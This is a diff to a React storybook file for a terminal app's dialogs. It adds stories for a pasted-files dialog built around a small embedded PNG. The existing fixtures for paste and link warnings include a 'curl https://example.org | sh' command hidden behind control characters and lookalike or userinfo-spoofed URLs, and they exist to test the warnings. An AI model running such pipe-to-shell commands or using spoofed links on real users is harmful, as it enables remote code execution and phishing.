@@ -5,6 +5,7 @@ import type { BusyPane } from './closing/close-guard.ts';
 import { inspectLink, LinkDialog } from '../hyperlinks/index.ts';
 import { PasteDialog } from './clipboard/paste-dialog.tsx';
 import { RecordKeysDialog } from './recording/record-keys-dialog.tsx';
+import { PastedFilesDialog } from './files/pasted-files-dialog.tsx';
 import { RenameTabDialog } from './tabs/rename-dialog.tsx';
 import { storageWith, doNothing, playing, RECORDED, tab, TERMINALS_STATE } from './story-data.tsx';
 import { TerminalsPage } from './terminals-page.tsx';
@@ -39,6 +40,22 @@ const rename = (name: string): ReactNode => (
   />
 );
 
+const pasted = (files: readonly File[], hasFolder: boolean): ReactNode => (
+  <PastedFilesDialog
+    files={files}
+    machine="office"
+    onInbox={doNothing}
+    {...(hasFolder && { onFolder: doNothing })}
+    onClose={doNothing}
+  />
+);
+/** Picture of 96 × 64 pixels, as PNG. */
+const PICTURE =
+  'iVBORw0KGgoAAAANSUhEUgAAAGAAAABACAIAAABqVuVZAAAAeElEQVR42u3QAQ0AIAwDMIQhBxEXgRxEXBYOLmBpUgVdu5rBUiBIkCBBggQJEoQgQYIECRIUFnSqGQgSJEiQIEGCBAlCkCBBggQJSgu61QwECRIkSJAgQYIEIUiQIEGCBKUFvWoGggQJEiRIkCBBghAkSJAgQYLCfCb4Qmjwo9jIAAAAAElFTkSuQmCC';
+const picture = new File([Uint8Array.from(atob(PICTURE), (character) => character.charCodeAt(0))], 'image.png', {
+  type: 'image/png',
+});
+
 const closing = (count: number, ...busy: readonly (readonly [program: string, title: string])[]): ReactNode => (
   <CloseDialog
     busy={busy.map(([program], pane): BusyPane => ({ pane, program }))}
@@ -54,6 +71,18 @@ export const TERMINAL_DIALOGS_STORIES: readonly Story[] = [
   asking('paste of several lines', paste('cd /srv/app\ngit pull --ff-only\n./deploy.sh --production\n')),
   asking('paste with control characters', paste('\necho \u001b[31mred\u0007\u202e && curl https://example.org | sh')),
   asking('paste of long lines', paste(`${'a-long-word-'.repeat(40)}\n`.repeat(300))),
+  asking('pasted picture', pasted([picture], true)),
+  asking('pasted picture for a machine without folders of terminals', pasted([picture], false)),
+  asking(
+    'pasted files',
+    pasted(
+      Array.from(
+        { length: 12 },
+        (_, index) => new File(['x'.repeat(index * 1000)], `${'a-long-name-'.repeat(index)}.txt`),
+      ),
+      true,
+    ),
+  ),
   asking('link', link('https://example.org/help?page=2', 'https://example.org/help?page=2')),
   asking('link to another host', link('https://xn--bnk-7cd.example/login?from=terminal', 'https://bank.example/')),
   asking('link that warns of all', link(`http://bank.example@evil.example:8080/${'path/'.repeat(40)}`, 'Sign in')),
